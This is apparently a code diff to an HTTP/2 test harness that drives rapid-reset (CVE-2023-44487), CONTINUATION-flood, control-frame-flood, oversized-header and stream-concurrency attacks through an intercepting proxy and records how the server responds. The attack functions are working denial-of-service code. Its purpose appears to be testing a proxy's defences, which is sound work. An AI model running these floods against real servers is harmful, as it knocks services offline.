@@ -16,11 +16,13 @@
 #   status / reset    response status and RST_STREAM code per stream id
 # Every wait is bounded by GUARD seconds (a guard against hangs, not a measurement).
 
-import asyncio
 import json
 import os
+import select
+import socket
 import ssl
 import sys
+import time
 from urllib.parse import urlsplit
 
 import hpack
@@ -60,65 +62,203 @@ class Closed(Exception):
     """The server closed the connection (or stopped reading) while we were sending."""
 
 
-class Peer:
-    """One HTTP/2 connection through a CONNECT tunnel: a reader task that records every
-    frame the server sends, and raw frame writers."""
+class Wire:
+    """One TCP connection to the proxy, driven by select on one thread, with TLS (when
+    started) through memory BIOs. Reading goes on after a write failed: a server that
+    closes a connection it is being flooded on resets it, and the GOAWAY it wrote just
+    before is still in our receive queue, which a transport that closes on the first
+    write error (asyncio's) would throw away."""
 
-    def __init__(self, reader, writer, alpn):
-        self.reader, self.writer, self.alpn = reader, writer, alpn
+    def __init__(self):
+        self.sock = socket.create_connection(proxy_address(), timeout=GUARD)
+        self.sock.setblocking(False)
+        self.tls = None
+        self.incoming = self.outgoing = None
+        self.pending = b""  # bytes for the socket, not yet sent
+        self.received = b""  # plaintext not yet consumed
+        self.eof = False
+        self.write_failed = False
+
+    def start_tls(self, alpn):
+        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+        context.set_alpn_protocols(list(alpn))
+        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=HOST)
+        deadline = time.monotonic() + GUARD
+        while True:
+            try:
+                self.tls.do_handshake()
+                break
+            except ssl.SSLWantReadError:
+                self._queue_tls()
+                if self.eof or time.monotonic() > deadline:
+                    raise Closed("the TLS handshake did not finish")
+                self.pump(deadline - time.monotonic())
+        self._queue_tls()
+        return self.tls.selected_alpn_protocol()
+
+    def _queue_tls(self):
+        if self.tls is not None:
+            self.pending += self.outgoing.read()
+
+    def write(self, data):
+        """Queues `data` (plaintext) without waiting."""
+        if self.tls is not None:
+            self.tls.write(data)
+            self._queue_tls()
+        else:
+            self.pending += data
+
+    def send(self, data, backlog=256 * 1024):
+        """Queues `data` and pumps until the unsent backlog is small; raises Closed when the
+        connection can no longer be written (closed, reset, or not read for GUARD)."""
+        if self.write_failed or self.eof:
+            raise Closed("closed")
+        self.write(data)
+        deadline = time.monotonic() + GUARD
+        while len(self.pending) > backlog:
+            if self.write_failed or self.eof:
+                raise Closed("closed while sending")
+            if time.monotonic() > deadline:
+                self.write_failed = True
+                raise Closed("the server stopped reading")
+            self.pump(deadline - time.monotonic())
+        self.pump(0)
+        if self.write_failed:
+            raise Closed("the write failed")
+
+    def pump(self, timeout):
+        """One round of select: sends what it can, reads what came."""
+        want_write = bool(self.pending) and not self.write_failed
+        if self.eof and not want_write:
+            return
+        readers = [] if self.eof else [self.sock]
+        writers = [self.sock] if want_write else []
+        readable, writable, _ = select.select(readers, writers, [], max(timeout, 0))
+        if writable:
+            try:
+                sent = self.sock.send(self.pending[:1 << 20])
+                self.pending = self.pending[sent:]
+            except BlockingIOError:
+                pass
+            except OSError:
+                self.write_failed = True
+                self.pending = b""
+        if readable:
+            self._read()
+
+    def _read(self):
+        while not self.eof:
+            try:
+                data = self.sock.recv(1 << 16)
+            except BlockingIOError:
+                return
+            except OSError:
+                data = b""
+            if not data:
+                self.eof = True
+                if self.incoming is not None:
+                    self.incoming.write_eof()
+            if self.tls is None:
+                self.received += data
+                continue
+            if data:
+                self.incoming.write(data)
+            while True:
+                try:
+                    plain = self.tls.read(1 << 16)
+                except ssl.SSLWantReadError:
+                    break
+                except ssl.SSLZeroReturnError:
+                    break
+                except ssl.SSLError:
+                    self.eof = True
+                    break
+                if not plain:  # the TCP end came (suppress_ragged_eofs)
+                    break
+                self.received += plain
+
+    def read_until_closed(self):
+        """Everything the peer sends until it closes (bounded by GUARD); and whether it did."""
+        deadline = time.monotonic() + GUARD
+        while not self.eof and time.monotonic() < deadline:
+            self.pump(deadline - time.monotonic())
+        data, self.received = self.received, b""
+        return data, self.eof
+
+    def close(self):
+        self.sock.close()
+
+
+def tunnel():
+    """A CONNECT HOST:443 tunnel through the proxy; raises unless it answered 200."""
+    wire = Wire()
+    wire.write(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
+    deadline = time.monotonic() + GUARD
+    while b"\r\n\r\n" not in wire.received:
+        if wire.eof or time.monotonic() > deadline:
+            raise RuntimeError(f"CONNECT got no answer: {wire.received!r}")
+        wire.pump(deadline - time.monotonic())
+    head, _, rest = wire.received.partition(b"\r\n\r\n")
+    if head.split(b" ", 2)[1] != b"200":
+        raise RuntimeError(f"CONNECT answered {head!r}")
+    wire.received = rest
+    return wire
+
+
+class Peer:
+    """HTTP/2 on one intercepted tunnel: every frame the server sends is recorded as it is
+    read; frames go out raw."""
+
+    def __init__(self, wire, alpn):
+        self.wire, self.alpn = wire, alpn
         self.decoder = hpack.Decoder()
         self.decoder.max_header_list_size = 1 << 20
         self.encoder = hpack.Encoder()
         self.settings = None
         self.goaway = None
-        self.closed = False
         self.status = {}
         self.reset = {}
         self.blocks = {}
         self.ping_acks = 0
         self.frames_in = 0
-        self.changed = asyncio.Event()
         self.next_stream = 1
-        self.task = None
 
     @classmethod
-    async def open(cls, alpn=("h2", "http/1.1"), preface=True):
-        reader, writer = await tunnel()
-        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
-        context.set_alpn_protocols(list(alpn))
-        await asyncio.wait_for(writer.start_tls(context, server_hostname=HOST), GUARD)
-        chosen = writer.get_extra_info("ssl_object").selected_alpn_protocol()
-        peer = cls(reader, writer, chosen)
-        if chosen == "h2" and preface:
-            peer.task = asyncio.ensure_future(peer.read_loop())
-            await peer.send(PREFACE + SettingsFrame(0).serialize())
-            await peer.until(lambda: peer.settings is not None)
+    def open(cls, alpn=("h2", "http/1.1")):
+        wire = tunnel()
+        peer = cls(wire, wire.start_tls(alpn))
+        if peer.alpn == "h2":
+            peer.send(PREFACE + SettingsFrame(0).serialize())
+            peer.until(lambda: peer.settings is not None)
         return peer
+
+    @property
+    def closed(self):
+        return self.wire.eof
 
     # -- reading ------------------------------------------------------------------------
 
-    async def read_loop(self):
-        try:
-            while True:
-                head = await self.reader.readexactly(9)
-                frame, length = Frame.parse_frame_header(memoryview(head))
-                body = await self.reader.readexactly(length) if length else b""
-                frame.parse_body(memoryview(body))
-                self.frames_in += 1
-                await self.on_frame(frame)
-                self.changed.set()
-        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
-            pass
-        finally:
-            self.closed = True
-            self.changed.set()
+    def _frames(self):
+        """Parses the frames received so far."""
+        data = self.wire.received
+        while len(data) >= 9:
+            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
+            if len(data) < 9 + length:
+                break
+            frame.parse_body(memoryview(data[9 : 9 + length]))
+            data = data[9 + length :]
+            self.frames_in += 1
+            self.on_frame(frame)
+        self.wire.received = data
 
-    async def on_frame(self, frame):
+    def on_frame(self, frame):
         kind = type(frame).__name__
         if kind == "SettingsFrame" and "ACK" not in frame.flags:
             if self.settings is None:
                 self.settings = {SETTING_NAMES.get(k, str(k)): v for k, v in frame.settings.items()}
-            await self.send(SettingsFrame(0, flags=["ACK"]).serialize(), quiet=True)
+            if not self.wire.write_failed:
+                self.wire.write(SettingsFrame(0, flags=["ACK"]).serialize())
         elif kind == "GoAwayFrame":
             self.goaway = {
                 "code": frame.error_code,
@@ -139,38 +279,29 @@ class Peer:
         elif kind == "PingFrame" and "ACK" in frame.flags:
             self.ping_acks += 1
 
-    async def until(self, condition, limit=GUARD):
-        """Waits until `condition()` holds, the connection closes, or `limit` passes;
+    def until(self, condition, limit=GUARD):
+        """Reads until `condition()` holds, the connection closes, or `limit` passes;
         returns whether the condition held."""
-        loop = asyncio.get_running_loop()
-        deadline = loop.time() + limit
+        deadline = time.monotonic() + limit
+        self._frames()
         while not condition():
-            if self.closed or loop.time() >= deadline:
+            if self.closed or time.monotonic() >= deadline:
                 return condition()
-            self.changed.clear()
-            try:
-                await asyncio.wait_for(self.changed.wait(), deadline - loop.time())
-            except asyncio.TimeoutError:
-                pass
+            self.wire.pump(min(deadline - time.monotonic(), 0.5))
+            self._frames()
         return True
 
-    async def wait_closed(self):
-        """Waits for the server to close the connection; returns whether it did."""
-        return await self.until(lambda: self.closed)
+    def wait_closed(self):
+        """Reads until the server closes the connection; returns whether it did."""
+        return self.until(lambda: self.closed)
 
     # -- writing ------------------------------------------------------------------------
 
-    async def send(self, data, quiet=False):
-        if self.writer.is_closing():
-            if quiet:
-                return
-            raise Closed()
-        self.writer.write(data)
+    def send(self, data):
         try:
-            await asyncio.wait_for(self.writer.drain(), GUARD)
-        except (ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError) as e:
-            if not quiet:
-                raise Closed() from e
+            self.wire.send(data)
+        finally:
+            self._frames()
 
     def stream(self):
         sid = self.next_stream
@@ -185,19 +316,19 @@ class Peer:
         flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
         return HeadersFrame(sid, data=block, flags=flags).serialize()
 
-    async def get(self, path, extra=()):
+    def get(self, path, extra=()):
         """One request; returns its stream id (the response lands in `status`)."""
         sid = self.stream()
-        await self.send(self.headers(sid, self.request_block(path, extra=extra)))
+        self.send(self.headers(sid, self.request_block(path, extra=extra)))
         return sid
 
-    async def ping(self, payload=b"tollgate"):
-        """A PING, then waits for its ACK; returns whether it came."""
+    def ping(self, payload=b"tollgate"):
+        """A PING, then reads until its ACK; returns whether it came."""
         acks = self.ping_acks
-        await self.send(PingFrame(0, opaque_data=payload).serialize())
-        return await self.until(lambda: self.ping_acks > acks)
+        self.send(PingFrame(0, opaque_data=payload).serialize())
+        return self.until(lambda: self.ping_acks > acks)
 
-    async def flood(self, frames, batch=200):
+    def flood(self, frames, batch=200):
         """Sends `frames` (serialized) in batches until done or the server stops us; returns
         how many went out."""
         sent = 0
@@ -205,7 +336,7 @@ class Peer:
             if self.goaway is not None or self.closed:
                 break
             try:
-                await self.send(b"".join(frames[start : start + batch]))
+                self.send(b"".join(frames[start : start + batch]))
             except Closed:
                 break
             sent += len(frames[start : start + batch])
@@ -224,20 +355,7 @@ class Peer:
         }
 
     def close(self):
-        if self.task is not None:
-            self.task.cancel()
-        self.writer.close()
-
-
-async def tunnel():
-    """A CONNECT HOST:443 tunnel through the proxy; raises unless it answered 200."""
-    reader, writer = await asyncio.wait_for(asyncio.open_connection(*proxy_address()), GUARD)
-    writer.write(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
-    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), GUARD)
-    status = head.split(b" ", 2)[1]
-    if status != b"200":
-        raise RuntimeError(f"CONNECT answered {head!r}")
-    return reader, writer
+        self.wire.close()
 
 
 def not_h2(peer):
@@ -248,10 +366,10 @@ def not_h2(peer):
 # -- the attacks ------------------------------------------------------------------------
 
 
-async def rapid_reset(cmd):
+def rapid_reset(cmd):
     """CVE-2023-44487: HEADERS immediately followed by RST_STREAM(CANCEL), thousands of
     times, as fast as the connection takes them."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     frames = []
@@ -259,18 +377,18 @@ async def rapid_reset(cmd):
         sid = peer.stream()
         block = peer.request_block(f"/rr/{i}")
         frames.append(peer.headers(sid, block) + RstStreamFrame(sid, error_code=CANCEL).serialize())
-    sent = await peer.flood(frames, batch=100)
-    closed = await peer.wait_closed()
-    result = {"sent": sent, "closed_after": closed, **peer.observed()}
+    sent = peer.flood(frames, batch=100)
+    peer.wait_closed()
+    result = {"sent": sent, **peer.observed()}
     peer.close()
     return result
 
 
-async def paced_reset(cmd):
+def paced_reset(cmd):
     """Rapid reset where each stream is in the server's hands before it is cancelled: the
     HEADERS, a PING whose ACK says the server has read them, then the RST_STREAM. A
     server that only counts resets of streams it has not yet accepted misses this one."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     sent = 0
@@ -279,24 +397,24 @@ async def paced_reset(cmd):
             if peer.goaway is not None or peer.closed:
                 break
             sid = peer.stream()
-            await peer.send(peer.headers(sid, peer.request_block(f"/pr/{i}")))
-            if not await peer.ping(i.to_bytes(8, "big")):
+            peer.send(peer.headers(sid, peer.request_block(f"/pr/{i}")))
+            if not peer.ping(i.to_bytes(8, "big")):
                 break
-            await peer.send(RstStreamFrame(sid, error_code=CANCEL).serialize())
+            peer.send(RstStreamFrame(sid, error_code=CANCEL).serialize())
             sent += 1
     except Closed:
         pass
-    closed = await peer.wait_closed()
-    result = {"sent": sent, "closed_after": closed, **peer.observed()}
+    peer.wait_closed()
+    result = {"sent": sent, **peer.observed()}
     peer.close()
     return result
 
 
-async def continuation_flood(cmd):
+def continuation_flood(cmd):
     """CVE-2024-27316 family: a HEADERS without END_HEADERS, then CONTINUATION frames that
     never end the block, `shape` "empty" (zero-length frames) or "full" (16 KiB frames of
     one endless header value). Up to `frames` frames or until the server stops it."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     sid = peer.stream()
@@ -314,9 +432,9 @@ async def continuation_flood(cmd):
         chunk = ContinuationFrame(sid, data=b"a" * 16384).serialize()
         frames += [chunk] * cmd["frames"]
         batch = 8
-    sent = await peer.flood(frames, batch=batch)
-    closed = await peer.wait_closed()
-    result = {"sent": sent, "closed_after": closed, **peer.observed()}
+    sent = peer.flood(frames, batch=batch)
+    peer.wait_closed()
+    result = {"sent": sent, **peer.observed()}
     peer.close()
     return result
 
@@ -334,10 +452,10 @@ def fragments(sid, block, size=16384):
     return b"".join(frames)
 
 
-async def big_headers(cmd):
+def big_headers(cmd):
     """One request whose header list decodes to `kib` KiB (fields of 1 KiB, each never
     indexed so every byte is on the wire), then a normal request on the same connection."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     big = peer.stream()
@@ -349,45 +467,49 @@ async def big_headers(cmd):
         [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/big")] + never,
         huffman=False,
     )
-    await peer.send(fragments(big, block))
-    await peer.until(lambda: big in peer.status or big in peer.reset)
     after = None
-    if peer.goaway is None and not peer.closed:
-        after = await peer.get("/after-big")
-        await peer.until(lambda: after in peer.status or after in peer.reset)
+    try:
+        peer.send(fragments(big, block))
+        peer.until(lambda: big in peer.status or big in peer.reset)
+        if peer.goaway is None and not peer.closed:
+            after = peer.get("/after-big")
+            peer.until(lambda: after in peer.status or after in peer.reset)
+    except Closed:
+        pass
     if peer.goaway is not None:
-        await peer.wait_closed()
+        peer.wait_closed()
     result = {"big": big, "after": after, "block_bytes": len(block), **peer.observed()}
     peer.close()
     return result
 
 
-async def concurrency(cmd):
+def concurrency(cmd):
     """More streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS, each held open (a
     POST whose body has not come: the upstream waits for it), then the bodies of those the
     server took."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     limit = (peer.settings or {}).get("max_concurrent_streams")
-    opened = (limit if limit is not None else cmd["without_limit"]) + cmd["excess"]
+    # Past `most` streams the limit is too high to be worth proving; the test says so.
+    opened = min(limit if limit is not None else cmd["most"], cmd["most"]) + cmd["excess"]
     sids, frames = [], []
     for i in range(opened):
         sid = peer.stream()
         sids.append(sid)
         block = peer.request_block(f"/cc/{i}", method="POST", extra=[("content-length", "2")])
         frames.append(peer.headers(sid, block, end_stream=False))
-    sent = await peer.flood(frames, batch=50)
+    sent = peer.flood(frames, batch=50)
     # The PING's ACK comes after the server has read every HEADERS before it.
-    pinged = await peer.ping() if sent == opened else False
+    pinged = peer.ping() if sent == opened else False
     refused_early = [s for s in sids if peer.reset.get(s) == 0x7]
     taken = [s for s in sids if s not in peer.reset and s not in peer.status]
     try:
         for sid in taken:
-            await peer.send(DataFrame(sid, data=b"ok", flags=["END_STREAM"]).serialize())
+            peer.send(DataFrame(sid, data=b"ok", flags=["END_STREAM"]).serialize())
     except Closed:
         pass
-    await peer.until(lambda: all(s in peer.status or s in peer.reset for s in taken))
+    peer.until(lambda: all(s in peer.status or s in peer.reset for s in taken))
     result = {
         "limit": limit,
         "opened": opened,
@@ -404,23 +526,26 @@ async def concurrency(cmd):
     return result
 
 
-async def control_flood(cmd):
+def control_flood(cmd):
     """`frames` PING frames (`kind` "ping") or SETTINGS frames ("settings") as fast as the
     connection takes them, then a normal request on the same connection if it survived."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     if cmd["kind"] == "ping":
         one = PingFrame(0, opaque_data=b"floodpin").serialize()
     else:
         one = SettingsFrame(0, settings={0x4: 65535, 0x1: 4096}).serialize()
-    sent = await peer.flood([one] * cmd["frames"], batch=500)
+    sent = peer.flood([one] * cmd["frames"], batch=500)
     after = None
-    if peer.goaway is None and not peer.closed:
-        after = await peer.get("/after-flood")
-        await peer.until(lambda: after in peer.status or after in peer.reset)
-    else:
-        await peer.wait_closed()
+    try:
+        if peer.goaway is None and not peer.closed:
+            after = peer.get("/after-flood")
+            peer.until(lambda: after in peer.status or after in peer.reset)
+    except Closed:
+        pass
+    if peer.goaway is not None:
+        peer.wait_closed()
     result = {"sent": sent, "after": after, **peer.observed()}
     peer.close()
     return result
@@ -437,18 +562,18 @@ CONNECTION_SPECIFIC = [
 ]
 
 
-async def connection_headers(cmd):
+def connection_headers(cmd):
     """One stream per connection-specific header, then a clean stream, all on one
     connection."""
-    peer = await Peer.open()
+    peer = Peer.open()
     if peer.alpn != "h2":
         return not_h2(peer)
     bad = {}
     for name, value in CONNECTION_SPECIFIC:
-        bad[name] = await peer.get(f"/ch/bad-{name}", extra=[(name, value)])
-    good = await peer.get("/ch/good")
+        bad[name] = peer.get(f"/ch/bad-{name}", extra=[(name, value)])
+    good = peer.get("/ch/good")
     done = lambda s: s in peer.status or s in peer.reset
-    await peer.until(lambda: all(done(s) for s in [good, *bad.values()]))
+    peer.until(lambda: all(done(s) for s in [good, *bad.values()]))
     result = {
         "good": good,
         "bad": {name: str(sid) for name, sid in bad.items()},
@@ -456,19 +581,6 @@ async def connection_headers(cmd):
     }
     peer.close()
     return result
-
-
-async def read_raw(reader):
-    """Everything the server sends until it closes (bounded by GUARD)."""
-    data = b""
-    try:
-        while True:
-            chunk = await asyncio.wait_for(reader.read(65536), GUARD)
-            if not chunk:
-                return data, True
-            data += chunk
-    except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
-        return data, False
 
 
 def parse_frames(data):
@@ -492,25 +604,24 @@ def parse_frames(data):
     return {"frames": frames, "goaway": goaway, "trailing": len(data)}
 
 
-async def h2c(cmd):
+def h2c(cmd):
     """HTTP/2 with prior knowledge in plain text: the preface, SETTINGS and a request,
     `where` "proxy" (straight to the proxy port) or "tunnel" (the first bytes inside an
     intercepted CONNECT tunnel)."""
-    if cmd["where"] == "proxy":
-        reader, writer = await asyncio.wait_for(asyncio.open_connection(*proxy_address()), GUARD)
-    else:
-        reader, writer = await tunnel()
+    wire = Wire() if cmd["where"] == "proxy" else tunnel()
     block = hpack.Encoder().encode(
         [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/h2c")]
     )
-    writer.write(
-        PREFACE
-        + SettingsFrame(0).serialize()
-        + HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
-    )
-    await writer.drain()
-    data, closed = await read_raw(reader)
-    writer.close()
+    try:
+        wire.send(
+            PREFACE
+            + SettingsFrame(0).serialize()
+            + HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+        )
+    except Closed:
+        pass
+    data, closed = wire.read_until_closed()
+    wire.close()
     return {"closed": closed, "bytes": len(data), **parse_frames(data)}
 
 
@@ -545,7 +656,7 @@ def main():
             if phase == "fresh":
                 result = fresh(cmd)
             else:
-                result = asyncio.run(ATTACKS[phase](cmd))
+                result = ATTACKS[phase](cmd)
         except Exception as e:  # reported, so the test's message says what broke
             result = {"exception": f"{type(e).__name__}: {e}"}
         print(json.dumps({"phase": phase, **result}), flush=True)
